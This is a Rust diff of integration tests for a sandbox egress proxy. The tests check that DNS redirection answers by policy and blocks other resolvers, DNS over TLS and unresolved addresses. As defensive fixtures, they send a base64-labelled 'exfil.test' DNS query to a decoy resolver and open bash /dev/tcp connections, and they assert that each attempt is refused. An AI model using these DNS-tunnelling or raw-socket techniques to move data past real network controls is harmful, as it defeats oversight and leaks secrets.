@@ -521,7 +521,7 @@ fn sidecar_redirects_the_sandbox_but_not_the_proxy_itself() {
     let audit = dir.path().join("audit.jsonl");
     let yaml = format!(
         r#"
-listen: {{ proxy: null, transparent: "127.0.0.1:0", admin: null, default_sandbox: side }}
+listen: {{ proxy: null, transparent: "127.0.0.1:0", dns: "127.0.0.1:0", admin: null, default_sandbox: side }}
 audit: {{ path: {audit} }}
 dns: {{ servers: ["127.0.0.1:9"], timeout_ms: 500, hosts: {{ api.test: [{ip}], other.test: [{ip}] }} }}
 defaults: {{ guard_allow_ranges: [10.78.1.0/24] }}
@@ -550,6 +550,7 @@ sandboxes:
         ],
     );
     let tport = proxy.transparent.expect("transparent").port().to_string();
+    let dport = proxy.dns.expect("dns").port().to_string();
     let o = ns.exec(&[
         script().to_str().unwrap(),
         "install",
@@ -558,8 +559,23 @@ sandboxes:
         "65534",
         "--proxy-port",
         &tport,
+        "--dns-redirect",
+        &dport,
     ]);
     assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    // The sandbox's DNS (to an address with no resolver) is answered by the proxy's listener.
+    let _resolv = NetnsResolvConf::new(&ns.name, "10.78.1.53");
+    let o = ns.exec(&["getent", "hosts", "api.test"]);
+    assert!(
+        o.status.success() && String::from_utf8_lossy(&o.stdout).contains(&ip),
+        "{}{}\n{:#?}\n{}\n{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr),
+        proxy.audit_records(),
+        proxy.stderr_text(),
+        String::from_utf8_lossy(&ns.exec(&["iptables", "-L", "-v", "-n"]).stdout),
+    );
+    assert!(!ns.exec(&["getent", "hosts", "other.test"]).status.success());
     let ca = ca.ca_pem.display().to_string();
     let op = https.addr.port();
     // The sandbox (root here, not the proxy's uid) is redirected; the proxy's own upstream
@@ -973,4 +989,170 @@ fn gateway_checks_every_request_and_requires_tls_on_tls_ports() {
     let rec = proxy.wait_record(|r| r["original_dst"] == format!("{ip}:{bp}"));
     assert_eq!(rec["reason"], "protocol_not_allowed", "{rec}");
     assert!(rec["dialed"].is_null(), "{rec}");
+}
+
+/// A resolver configuration for commands run in `ns` (`ip netns exec` bind-mounts
+/// `/etc/netns/NAME/resolv.conf`); removed on drop.
+struct NetnsResolvConf(PathBuf);
+
+impl NetnsResolvConf {
+    fn new(ns: &str, nameserver: &str) -> NetnsResolvConf {
+        let dir = PathBuf::from(format!("/etc/netns/{ns}"));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(
+            dir.join("resolv.conf"),
+            format!("nameserver {nameserver}\noptions timeout:2 attempts:1\n"),
+        )
+        .unwrap();
+        NetnsResolvConf(dir)
+    }
+}
+
+impl Drop for NetnsResolvConf {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+#[test]
+#[ignore = "needs root, ip, iptables"]
+fn gateway_dns_redirect_answers_by_policy_and_names_nameless_connections() {
+    if !can_run() {
+        return;
+    }
+    let ns = Netns::new("dn", 84, 1);
+    let ip = ns.host_ip.clone();
+    // A second host address the sandbox never gets in an answer, with a decoy resolver and a
+    // DNS-over-TLS port on it: nothing may reach either.
+    let other_ip = "10.84.1.3";
+    must(&["ip", "addr", "add", "10.84.1.3/24", "dev", &ns.host_if]);
+    let decoy = UdpSocket::bind((other_ip, 53)).unwrap();
+    let dot = std::net::TcpListener::bind((other_ip, 853)).unwrap();
+    dot.set_nonblocking(true).unwrap();
+    let _resolv = NetnsResolvConf::new(&ns.name, other_ip);
+    // One plain-TCP origin on both addresses (a protocol with no SNI and no Host).
+    let (port, got) = recording_origin("0.0.0.0");
+
+    let dir = tempfile::tempdir().unwrap();
+    let audit = dir.path().join("audit.jsonl");
+    let yaml = format!(
+        r#"
+listen: {{ proxy: null, transparent: "{ip}:0", dns: "{ip}:0", admin: 127.0.0.1:0 }}
+audit: {{ path: {audit} }}
+dns:
+  servers: ["127.0.0.1:9"]
+  timeout_ms: 500
+  hosts: {{ ssh.test: [{ip}], other.test: [{other_ip}] }}
+defaults:
+  guard_allow_ranges: [10.84.1.0/24]
+  timeouts: {{ header_ms: 300 }}
+sandboxes:
+  - id: sbx
+    sources: [{sip}/32]
+    policy: {{ provider: local, config: {{}}, network: {{ egress: ["ssh.test:{port}"] }} }}
+"#,
+        audit = audit.display(),
+        sip = ns.sandbox_ip,
+    );
+    let cfg = dir.path().join("proxy.yaml");
+    std::fs::write(&cfg, yaml).unwrap();
+    let proxy = Proxy::start_with(cfg, audit, &[]);
+    let tport = proxy.transparent.expect("transparent").port().to_string();
+    let dport = proxy.dns.expect("dns listener").port().to_string();
+    let _rules = GatewayRules(ns.host_if.clone());
+    must(&[
+        script().to_str().unwrap(),
+        "install",
+        "gateway",
+        "--iface",
+        &ns.host_if,
+        "--proxy-port",
+        &tport,
+        "--dns-redirect",
+        &dport,
+    ]);
+
+    // The sandbox's resolver (resolv.conf names the decoy) is answered by the proxy.
+    let o = ns.exec(&["getent", "hosts", "ssh.test"]);
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert!(
+        o.status.success() && out.contains(&ip),
+        "getent: {out} {}\n{:#?}",
+        String::from_utf8_lossy(&o.stderr),
+        proxy.audit_records()
+    );
+    let o = ns.exec(&["getent", "hosts", "other.test"]);
+    assert!(!o.status.success(), "a name no rule allows was resolved");
+    // Direct DNS to another address, over UDP and TCP, ends at the proxy too.
+    let o = ns.exec(&[
+        "dig",
+        &format!("@{other_ip}"),
+        "+tries=1",
+        "+time=3",
+        "c2VjcmV0.exfil.test",
+        "TXT",
+    ]);
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("status: REFUSED"),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    let o = ns.exec(&[
+        "dig",
+        &format!("@{other_ip}"),
+        "+tcp",
+        "+tries=1",
+        "+time=3",
+        "c2VjcmV0.exfil.test",
+        "A",
+    ]);
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("status: NXDOMAIN"),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    assert!(!udp_arrives(&decoy), "a DNS query reached another resolver");
+    // DNS on another UDP port and DNS over TLS go nowhere.
+    let mdns = UdpSocket::bind((other_ip, 5353)).unwrap();
+    ns.send_udp(other_ip, 5353);
+    assert!(!udp_arrives(&mdns), "UDP to another port left the sandbox");
+    let _ = ns.exec(&[
+        "bash",
+        "-c",
+        &format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{other_ip}/853' || true"),
+    ]);
+    assert!(
+        dot.accept().is_err(),
+        "DNS over TLS (853) reached its server"
+    );
+    let recs = proxy.audit_records();
+    let dns = recs.iter().filter(|r| r["mode"] == "dns").count();
+    assert!(dns >= 3, "{recs:#?}");
+
+    // No SNI, no Host: to the address the sandbox resolved for ssh.test, decided by name.
+    let send = |to: &str, what: &str| {
+        let _ = ns.exec(&[
+            "bash",
+            "-c",
+            &format!("exec 3<>/dev/tcp/{to}/{port}; printf '{what}\\r\\n' >&3; sleep 1"),
+        ]);
+    };
+    send(&ip, "SSH-2.0-by-name");
+    let rec = proxy.wait_record(|r| {
+        r["event"] == "end" && r["mode"] == "tcp" && r["original_dst"] == format!("{ip}:{port}")
+    });
+    assert_eq!(rec["decision"], "allow", "{rec}");
+    assert_eq!(rec["target_host"], "ssh.test", "{rec}");
+    assert!(
+        rec["detail"].as_str().unwrap_or("").contains("DNS answer"),
+        "{rec}"
+    );
+    // The same to an address no answer gave: refused, nothing arrives.
+    send(other_ip, "SSH-2.0-unresolved");
+    let rec = proxy
+        .wait_record(|r| r["event"] == "end" && r["original_dst"] == format!("{other_ip}:{port}"));
+    assert_eq!(rec["decision"], "deny", "{rec}");
+    let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
+    assert!(seen.contains("SSH-2.0-by-name"), "{seen}");
+    assert!(!seen.contains("unresolved"), "{seen}");
 }
